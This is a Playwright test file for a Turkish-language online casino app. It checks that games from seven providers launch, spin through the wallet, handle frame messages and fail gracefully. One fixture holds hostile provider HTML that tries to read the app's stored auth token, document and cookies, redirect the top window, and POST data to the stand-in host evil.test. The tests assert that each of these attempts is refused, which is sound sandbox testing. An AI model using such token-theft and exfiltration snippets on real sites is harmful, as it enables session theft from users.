import type { Frame, Page, Route } from 'playwright/test';
import { expect, newPlayer, registerThroughDialog, test } from '../../support/browser-test.ts';

const desktop = { width: 1440, height: 900 };

/** One game of every provider system, in the order of the launch calls. */
const games = [
  { system: 'pragmatic', name: 'Lale Devri', launch: 'pragmaticlaunchurl' },
  { system: 'dt', name: 'Nar Bahçesi', launch: 'dtlaunchurl' },
  { system: 'em', name: 'Galata 7', launch: 'emlaunchurl' },
  { system: 'amusnet', name: 'Gece Kandili', launch: 'amusnetlaunchurl' },
  { system: 'egt', name: 'Sultan Tacı', launch: 'egtlaunchurl' },
  { system: 'hub88', name: 'Zümrüt Yolu', launch: 'hub88launchurl' },
  { system: 'softgamings', name: 'Yıldırım', launch: 'softgamingslaunchurl' },
] as const;

async function register(page: Page): Promise<void> {
  await page.goto('/');
  await registerThroughDialog(page, newPlayer());
  await expect(page.getByRole('dialog', { name: 'Üyelik tamam' })).toContainText('Tebrikler');
  await page.keyboard.press('Escape');
}

/** Claims the trial bonus as the app does: play money to play with. */
async function claimTrialBonus(page: Page): Promise<void> {
  const isGranted = await page.evaluate(async () => {
    const { token } = JSON.parse(localStorage.getItem('authData') ?? '{}') as { token?: string };
    const headers = { authorization: `Bearer ${token}`, 'x-locale': 'tr', 'x-fingerprint': localStorage.getItem('fingerprint') ?? '' };
    const answer = await fetch('/api/bonus/definetrialbonus', { headers });
    return ((await answer.json()) as { success: boolean }).success;
  });
  expect(isGranted).toBe(true);
}

async function openGame(page: Page, name: string): Promise<void> {
  await page.goto('/casino/slot');
  await page
    .getByRole('feed')
    .getByRole('link', { name: new RegExp(name) })
    .click();
  await expect(page.getByRole('heading', { name })).toBeVisible();
}

test.describe('on a desktop', () => {
  test.use({ viewport: desktop });

  test('one game of each of the seven systems opens on the play page and is played through the wallet', async ({ page }) => {
    test.slow();
    await register(page);
    await claimTrialBonus(page);
    for (const { system, name, launch } of games) {
      await test.step(`${system}: ${name}`, async () => {
        const launched = page.waitForResponse((response) => response.url().endsWith(`/api/casino/${launch}`));
        await openGame(page, name);
        expect((await launched).status()).toBe(200);
        const game = page.frameLocator(`iframe[title="${name}"]`);
        await expect(game.getByRole('heading', { name })).toBeVisible();
        const balance = game.locator('#balance');
        await expect(balance).toHaveText(/^₺\d/);
        const before = (await balance.textContent()) ?? '';
        await game.locator('#spin').click();
        await expect(balance).not.toHaveText(before);
        await expect(game.locator('#spin')).toHaveAttribute('aria-disabled', 'false');
        const shown = (await balance.textContent()) ?? '';
        await expect(page.locator('section .money').first()).toHaveText(shown);
        await expect(page.getByText('Yükleniyor…')).toBeHidden();
      });
    }
  });
});

/** HTML as the worst provider would send it: it tries what must not work and writes down what came of it. */
const hostileHtml = `
  <output id="tried"></output>
  <img src="https://evil.test/picture.png" alt="">
  <script>
    const tried = {};
    const attempt = (name, act) => {
      try { act(); tried[name] = 'done'; } catch { tried[name] = 'refused'; }
    };
    attempt('read the storage of the app', () => parent.localStorage.getItem('authData'));
    attempt('read a storage of its own', () => localStorage.length);
    attempt('read the document of the app', () => parent.document.body.innerHTML);
    attempt('read a cookie', () => document.cookie);
    attempt('move the top window', () => { top.location.href = 'https://evil.test/'; });
    attempt('replace the top window', () => top.location.replace('https://evil.test/'));
    fetch('https://evil.test/stolen', { method: 'POST', body: 'x' }).catch(() => {});
    for (let count = 0; count < 1000; count += 1) parent.postMessage({ type: 'provider-frame-ready' }, '*');
    parent.postMessage({ type: 'provider-html', html: '<script>alert(1)<\\/script>' }, '*');
    document.getElementById('tried').textContent = JSON.stringify(tried);
  </script>
`;

const answerWith = (envelope: object) => (route: Route) => route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify(envelope) });

async function frameOf(page: Page, name: string): Promise<Frame> {
  const element = await page.locator(`iframe[title="${name}"]`).elementHandle();
  const frame = await element?.contentFrame();
  if (!frame) throw new Error(`no frame of ${name}`);
  return frame;
}

/** What a hostile page provokes in the console is no fault of ours. */
const hostileTest = test.extend({ watchErrors: async ({}, use) => use(undefined) });

hostileTest('foreign HTML reaches neither the storage nor the document of the app, moves nothing and loads from nowhere else', async ({ page, context }) => {
  const stolen: string[] = [];
  await context.route(/evil\.test/, (route) => {
    stolen.push(route.request().url());
    return route.abort();
  });
  await page.route('**/api/casino/softgamingslaunchurl', answerWith({ success: true, message: null, data: hostileHtml }));
  page.on('dialog', (dialog) => stolen.push(dialog.message()));
  await register(page);
  await openGame(page, 'Yıldırım');
  const tried = page.frameLocator('iframe[title="Yıldırım"]').locator('#tried');
  await expect(tried).toHaveText(/\{/);
  expect(JSON.parse((await tried.textContent()) ?? '')).toEqual({
    'read the storage of the app': 'refused',
    'read a storage of its own': 'refused',
    'read the document of the app': 'refused',
    'read a cookie': 'refused',
    'move the top window': 'refused',
    'replace the top window': 'refused',
  });
  await expect(page.getByRole('heading', { name: 'Yıldırım' })).toBeVisible();
  expect(new URL(page.url()).pathname).toMatch(/^\/casino\/play\//);
  expect(await page.evaluate(() => localStorage.getItem('authData'))).toContain('token');
  expect(stolen).toEqual([]);
});

test.describe('a frame', () => {
  test('is obeyed, and nobody else: a reload loads the game again, a close leads to the lobby', async ({ page }) => {
    let launches = 0;
    page.on('request', (request) => {
      if (request.url().endsWith('pragmaticlaunchurl')) launches += 1;
    });
    await register(page);
    await openGame(page, 'Lale Devri');
    await expect(page.frameLocator('iframe[title="Lale Devri"]').getByRole('heading', { name: 'Lale Devri' })).toBeVisible();
    await page.evaluate(() => {
      for (let count = 0; count < 1000; count += 1) {
        window.postMessage({ type: count % 2 ? 'close' : 'reload' }, '*');
      }
    });
    const frame = await frameOf(page, 'Lale Devri');
    await frame.evaluate(() => {
      for (const message of ['close', null, { type: 'open' }, { type: ['close'] }]) parent.postMessage(message, '*');
    });
    await expect(page.getByRole('heading', { name: 'Lale Devri' }).first()).toBeVisible();
    expect(launches).toBe(1);
    await frame.evaluate(() => {
      for (let count = 0; count < 1000; count += 1) parent.postMessage({ type: 'reload' }, '*');
    });
    await expect(page.getByText('Oyun yeniden yüklenecek. Lütfen bekle…')).toBeVisible();
    await expect(page.frameLocator('iframe[title="Lale Devri"]').getByRole('heading', { name: 'Lale Devri' })).toBeVisible();
    expect(launches).toBe(2);
    await (await frameOf(page, 'Lale Devri')).evaluate(() => parent.postMessage({ type: 'close' }, '*'));
    await expect(page).toHaveURL(/\/casino\/slot$/);
  });

  test('that is led to the way back says so, and the lobby comes instead of a site within the site', async ({ page }) => {
    await register(page);
    for (const name of ['Sultan Tacı', 'Yıldırım']) {
      await openGame(page, name);
      await expect(page.frameLocator(`iframe[title="${name}"]`).getByRole('heading', { name })).toBeVisible();
      const lobby = new URL('/back-to-lobby.html', page.url()).href;
      await (await frameOf(page, name)).evaluate((address) => location.assign(address), lobby);
      await expect(page).toHaveURL(/\/casino\/slot$/);
      await expect(page.locator('iframe')).toHaveCount(0);
    }
  });
});

test('a launch that fails closes the game with the message for three systems; the others offer another try', async ({ page }) => {
  await register(page);
  for (const { launch } of games) await page.route(`**/api/casino/${launch}`, answerWith({ success: false, message: `Kapalı: ${launch}` }));
  for (const { system, name, launch } of games) {
    await page.goto('/casino/slot');
    await page
      .getByRole('feed')
      .getByRole('link', { name: new RegExp(name) })
      .click();
    await expect(page.getByText(`Kapalı: ${launch}`)).toBeVisible();
    if (['egt', 'hub88', 'softgamings'].includes(system)) await expect(page).toHaveURL(/\/casino\/slot$/);
    else await expect(page.getByRole('button', { name: 'Yeniden dene' })).toBeVisible();
    await expect(page.getByText('Yükleniyor…')).toBeHidden();
  }
});
